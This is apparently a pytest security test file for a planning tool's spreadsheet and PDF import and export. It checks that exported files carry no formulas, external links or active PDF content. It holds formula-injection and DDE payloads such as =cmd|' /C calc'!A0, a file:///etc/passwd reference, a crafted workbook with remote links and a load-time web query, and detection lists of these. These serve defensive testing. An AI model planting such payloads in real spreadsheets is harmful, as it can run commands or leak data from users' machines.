"""What a sheet would do in Excel or LibreOffice: nothing of it is followed when read, and nothing is written out."""

import csv
import io
import re
import shutil
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.conftest import ROOT, Tpn
from tests.security.test_security_text import TEXTS
from tpn.source import parse, read_folder
from tpn.source.emit import emit

STARTS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.no/"&A1,"se her")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*A1",
    '=WEBSERVICE("http://example.no")', '=DDE("soffice";"x";"y")', "='file:///etc/passwd'#$A.A1", "\t=1+1", "\r=1+1",
    '=IMPORTXML("http://example.no","//a")', "＝1+1", "=INDIRECT(\"'[x]A'!A1\")", "%0A=1+1",
)  # fmt: skip
LINES: dict[str, tuple[str, ...]] = {
    "plan.xlsx": ("export",), "plan.ods": ("export",), "plan.csv": ("export",),
    "alt.xlsx": ("export", "--all"), "alt.ods": ("export", "--all"),
    "registre.xlsx": ("export", "--style", "registers"),
    "registre.csv": ("export", "--style", "registers"), "hele.ods": ("export", "--style", "whole"),
    "liste.csv": ("list", "aktiviteter"), "risiko.csv": ("list", "risikoer"), "nytte.csv": ("benefits",),
    "rapport.xlsx": ("report", "--form"),
}  # fmt: skip


def begun(value: Any, turn: Iterator[str]) -> Any:
    """A value in which every text that people write begins as a formula does."""
    if isinstance(value, dict):
        return {
            key: f"{next(turn)} {item}" if key in TEXTS and isinstance(item, str) else begun(item, turn)
            for key, item in value.items()
        }
    return [begun(item, turn) for item in value] if isinstance(value, list) else value


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Halden with a formula in front of every text; only read."""

    def turns() -> Iterator[str]:
        while True:
            yield from STARTS

    home = tmp_path_factory.mktemp("formler")
    project, turn = Path(shutil.copytree(ROOT / "examples" / "halden", home / "halden")), turns()
    for file in read_folder(project).files:
        (project / file.path.name).write_text(emit(begun(parse(file.text, file.name).value, turn)), "utf-8")
    return project


def formulas(path: Path) -> list[str]:
    """Every formula, hidden rule, name and link of a workbook; every cell of a text file that begins as one."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
        return [cell for cell in cells if re.match(r"[=@\t\r]|[+-]+[\w(@=.]", cell)]
    with zipfile.ZipFile(path) as package:
        said = {
            name: package.read(name).decode("utf-8", "replace")
            for name in package.namelist()
            if name.endswith((".xml", ".rels"))
        }
    found = [name for name in said if "externalLink" in name or "connections" in name or "queryTable" in name]
    for text in said.values():
        found += re.findall(r"<(?:\w+:)?(?:f|formula1?|formula2|definedName)(?: [^>]*)?>([^<]*)<", text)
        found += re.findall(
            r'(?:table:formula|table:condition|style:condition|xlink:href|TargetMode)="([^"]*)"', text
        )
    return found


EVIL = re.compile(
    r"cmd|HYPERLINK|WEBSERVICE|DDE\(|IMPORTXML|file:|example\.no|SUM\(1\+1\)|INDIRECT|External|http",
    re.IGNORECASE,
)


@pytest.mark.sampled(every=4)
@pytest.mark.parametrize("file", LINES)
def test_no_writer_writes_a_text_as_a_formula(tpn: Tpn, poisoned: Path, tmp_path: Path, file: str) -> None:
    said = tpn(*LINES[file], "-p", poisoned, "-o", tmp_path / file)
    made = [*tmp_path.glob(f"{Path(file).stem}*{Path(file).suffix}")]
    assert (said.code, bool(made)) == (0, True), said.err
    for one in made:
        assert [text for text in formulas(one) if one.suffix == ".csv" or EVIL.search(text)] == []


@pytest.fixture
def door() -> Iterator[socket.socket]:
    """A place that would hear of it if anything were fetched."""
    with socket.create_server(("127.0.0.1", 0)) as made:
        made.setblocking(False)  # noqa: FBT003 - as the library has it
        yield made


def knocked(door: socket.socket) -> bool:
    try:
        door.accept()
    except BlockingIOError:
        return False
    return True


def reaching(plain: bytes, url: str) -> bytes:
    """A workbook with all that reaches beyond itself: other books, connections, queries, pictures, DDE."""
    relation, main = (
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    )
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    outside = ' TargetMode="External"'
    extra = "".join(
        f'<Relationship Id="rIdX{number}" Type="{relation}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate((
            ("externalLink", "externalLinks/externalLink1.xml", ""), ("connections", "connections.xml", ""),
            ("image", f"{url}/bilde.png", outside), ("oleObject", f"{url}/x.doc", outside),
        ))
    )  # fmt: skip
    rels = "xl/_rels/workbook.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", f"{extra}</Relationships>".encode())
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{main}"><connection id="1" name="x" type="4" refreshedVersion="6" refreshOnLoad="1">'
        f'<webPr url="{url}/tabell" htmlTables="1"/></connection></connections>'
    ).encode()
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{relation}/externalLinkPath" Target="{url}/bok.xlsx"{outside}/></Relationships>'
    ).encode()
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return made.getvalue()


@pytest.mark.parametrize("whose", ["ours", "a stranger's"])
def test_nothing_that_a_sheet_reaches_for_is_fetched_or_written(
    tpn: Tpn, halden: Path, tmp_path: Path, door: socket.socket, whose: str
) -> None:
    url = f"http://127.0.0.1:{door.getsockname()[1]}"
    path = tmp_path / "ark.xlsx"
    if whose == "ours":
        assert tpn("export", "-o", path, "-p", halden).code == 0
        book: Any = openpyxl.load_workbook(path)
        tab = book["Etablering"]
        head = next(row[0].row for row in tab.iter_rows() if row[0].value == "Nr")
        tab.cell(head, tab.max_column + 1).value = "Egen"
    else:
        book = openpyxl.Workbook()
        tab, head = book.active, 1
        tab.append(["Aktivitet", "Ansvarlig", "Frist", "Egen"])
        for number in range(5):
            tab.append([f"Rydde {number}", "Kari Holm", "12.10.2026"])
    reach = [
        f'=WEBSERVICE("{url}")',
        f"='[{url}/bok.xlsx]Ark1'!A1",
        "=cmd|'/C calc'!A0",
        f'=HYPERLINK("{url}")',
        f'=IMAGE("{url}/x.png")',
    ]
    for number, formula in enumerate(reach, 1):
        tab.cell(head + number, tab.max_column).value = formula
    book.save(path)
    path.write_bytes(reaching(path.read_bytes(), url))

    said = tpn("import", path, "--write", "-p", halden)
    assert ("Rydde 1" in said.out) if whose == "a stranger's" else ("Egen" in said.out), said.err
    for kind in ("xlsx", "ods", "csv"):
        assert tpn("export", "-o", tmp_path / f"ny.{kind}", "-p", halden).code == 0
    assert not knocked(door)
    for one in tmp_path.glob("ny*"):
        assert not [text for text in formulas(one) if EVIL.search(text) or "127.0.0.1" in text], one.name


def test_a_pdf_does_nothing_and_carries_no_font_but_ours(tpn: Tpn, poisoned: Path, tmp_path: Path) -> None:
    fonts = poisoned / "templates"
    fonts.mkdir(exist_ok=True)
    for name in ("SourceSansPro-Regular.ttf", "fonts.ttf"):
        (fonts / name).write_bytes(b"\0\1\0\0" + b"\xff" * 5000)
    said = tpn("status", "-p", poisoned, "-o", tmp_path / "ut.pdf")
    assert said.code == 0, said.err
    data = (tmp_path / "ut.pdf").read_bytes()
    acts = (
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/OpenAction",
        b"/EmbeddedFile",
        b"/URI",
        b"/RichMedia",
        b"/GoToR",
        b"/SubmitForm",
    )
    assert [one for one in acts if one in data] == []
    named = set(re.findall(rb"/BaseFont ?/([A-Za-z+\-]+)", data))
    assert named
    assert {
        one.partition(b"+")[2] for one in named if not one.partition(b"+")[2].startswith(b"SourceSans")
    } == set()
